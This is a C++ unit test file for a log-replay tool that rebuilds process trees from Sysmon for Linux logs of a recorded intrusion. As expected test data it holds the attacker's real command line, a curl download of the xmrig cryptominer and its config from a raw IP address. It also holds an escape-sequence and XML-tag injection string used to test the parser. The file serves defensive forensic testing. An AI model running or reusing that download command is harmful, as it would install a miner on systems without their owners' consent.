// Sysmon for Linux through the real binary: `proctrack replay` of the
// published syslog lines of host ip-172-31-60-25 and of a real journald's
// JSON and export output of the same events (tests/data/sysmon_linux,
// sources in its README.md). The answers are those the log itself gives:
// the attacker's chain bash (4004) <- sudo (4003) -> curl (4005), read off
// the events' ProcessGuid / ParentProcessGuid.
#include <boost/test/unit_test.hpp>

#include "tests/support/run_binary.hpp"

#include <nlohmann/json.hpp>

#include <cstdlib>
#include <string>

BOOST_AUTO_TEST_SUITE(sysmon_linux_replay_test)

using nlohmann::json;
using namespace proctrack_test;

namespace {

std::string fixture(const std::string &name) {
  const char *s = std::getenv("PROCTRACK_SOURCE");
  return std::string{s != nullptr ? s : "/work/main"}
         + "/tests/data/sysmon_linux/" + name;
}

bool has(const std::string &text, const std::string &part) {
  return text.find(part) != std::string::npos;
}

// 2022-11-24T09:59:47Z and 09:59:49Z in seconds since 1970 (date -d).
const std::string t47 = "1669283987";
const std::string t49 = "1669283989";

// What every form of the log must answer: the six processes Sysmon saw
// start, their parents by GUID, curl's exit, and curl's chain.
void check_answers(const std::string &file, std::size_t extra) {
  const std::string curl = "4005-" + t47;
  auto o =
      replay(file, {"pslist", "callchain:" + curl, "get:" + curl, "stats"});
  auto &ps = o[0];
  BOOST_TEST(ps.size() == 6u + extra);
  std::map<std::string, std::string> parent_of{
      {"4001-" + t47, "4000-?"},      {"4002-" + t47, "4000-?"},
      {"4003-" + t47, "4000-?"},      {"4004-" + t47, "4003-" + t47},
      {"4005-" + t47, "4004-" + t47}, {"4091-" + t49, "4004-" + t47}};
  for (auto &[id, parent] : parent_of) {
    auto e = entry(ps, id);
    BOOST_TEST_CONTEXT(id) {
      BOOST_TEST_REQUIRE(!e.is_null());
      BOOST_TEST(e["ParentId"] == parent);
      BOOST_TEST(e["Data"]["Computer"] == "ip-172-31-60-25");
      BOOST_TEST(e["Data"]["Username"] == "root");
    }
  }
  BOOST_TEST(entry(ps, "6666-" + t47).is_null()); // the forged one
  std::vector<std::string> chain;
  for (auto &e : o[1])
    chain.push_back(e["Data"].value("Exe", std::string{"?"}));
  BOOST_TEST(chain
                 == (std::vector<std::string>{"/usr/bin/sudo", "/bin/bash",
                                              "/usr/bin/curl"}),
             boost::test_tools::per_element());
  auto &e = o[2];
  BOOST_TEST(e["Id"] == curl);
  BOOST_TEST(e["ParentId"] == "4004-" + t47);
  BOOST_TEST(e["StartTime"] == "2022-11-24T09:59:47.884Z");
  BOOST_TEST(e["EndTime"] == "2022-11-24T09:59:48.02Z");
  BOOST_TEST(e["Data"]["Name"] == "curl");
  BOOST_TEST(e["Data"]["Exe"] == "/usr/bin/curl");
  BOOST_TEST(e["Data"]["CommandLine"]
             == "curl -s -O http://44.204.18.94:80/xmrig -O "
                "http://44.204.18.94:80/config.json");
  BOOST_TEST(e["Data"]["CurrentDirectory"] == "/opt/automation");
  BOOST_TEST(e["Data"]["ParentImage"] == "/bin/bash");
  BOOST_TEST(e["Data"]["ProcessGuid"]
             == "{c9eb4a87-4093-637f-789d-2406ab550000}");
  BOOST_TEST(counter_of(o[3], "InputErrors") == 0);
  BOOST_TEST(counter_of(o[3], "SkippedEventID3") == 2);
  BOOST_TEST(counter_of(o[3], "SkippedEventID11") == 4);
}

} // namespace

BOOST_AUTO_TEST_CASE(syslog_replays_the_published_chain) {
  check_answers(fixture("ip-172-31-60-25.syslog"), 0);
  auto o = replay(fixture("ip-172-31-60-25.syslog"), {"stats"});
  BOOST_TEST(counter_of(o[0], "SyslogOtherLines") == 3); // xmrig[4090]
  BOOST_TEST(counter_of(o[0], "SysmonLinuxEvents") == 13);
}

// journalctl -o json and -o export of a real journald: the same answers,
// plus the process whose command line holds an ESC byte and an escaped
// "</Event>"; the entry user nobody forged with `logger -t sysmon` is not
// a process, and the replay says why.
BOOST_AUTO_TEST_CASE(journal_forms_replay_the_same_answers) {
  for (auto name : {"journal.json", "journal.export"}) {
    BOOST_TEST_CONTEXT(name) {
      check_answers(fixture(name), 1);
      auto o = replay(fixture(name), {"get:4092-" + t49, "stats"});
      BOOST_TEST(o[0]["Data"]["CommandLine"]
                 == "printf '\x1b[0m' </Event> && true");
      BOOST_TEST(o[0]["ParentId"] == "4004-" + t47);
      BOOST_TEST(counter_of(o[1], "SysmonLinuxNotFromSysmon") == 1);
      BOOST_TEST(has(o.run.err, "journal entry with SYSLOG_IDENTIFIER=sysmon "
                                "sent by _COMM=logger _UID=65534, not by "
                                "Sysmon (root's sysmon): skipped"),
                 o.run.err);
    }
  }
}

// A Sysmon for Linux log with network events only, and a syslog without
// Sysmon at all, replay to nothing and say what they held.
BOOST_AUTO_TEST_CASE(logs_without_process_events_say_what_they_held) {
  auto net = fixture("network_only.syslog");
  auto o = replay(net, {"pslist", "stats"});
  BOOST_TEST(o[0].size() == 0u);
  BOOST_TEST(has(o.run.err, net
                                + ": Sysmon for Linux log: 0 process events "
                                  "of 2 records; event ids 3\xc3\x97"
                                  "2 (process events: Sysmon 1/5, Security "
                                  "4688/4689)"),
             o.run.err);
  BOOST_TEST(counter_of(o[1], "FilesWithoutProcessEvents") == 1);

  temp_dir dir;
  auto plain = dir.write(
      "syslog", "Nov 24 09:59:49 ip-172-31-60-25 xmrig[4090]: POOL #1\n"
                "Nov 24 09:59:49 ip-172-31-60-25 CRON[77]: (root) CMD (x)\n");
  auto p = replay(plain, {"pslist", "stats"});
  BOOST_TEST(p[0].size() == 0u);
  BOOST_TEST(has(p.run.err, plain
                                + ": syslog of 2 lines: no Sysmon for Linux "
                                  "event (2 lines of other programs)"),
             p.run.err);
  BOOST_TEST(counter_of(p[1], "SyslogOtherLines") == 2);
}

BOOST_AUTO_TEST_SUITE_END()
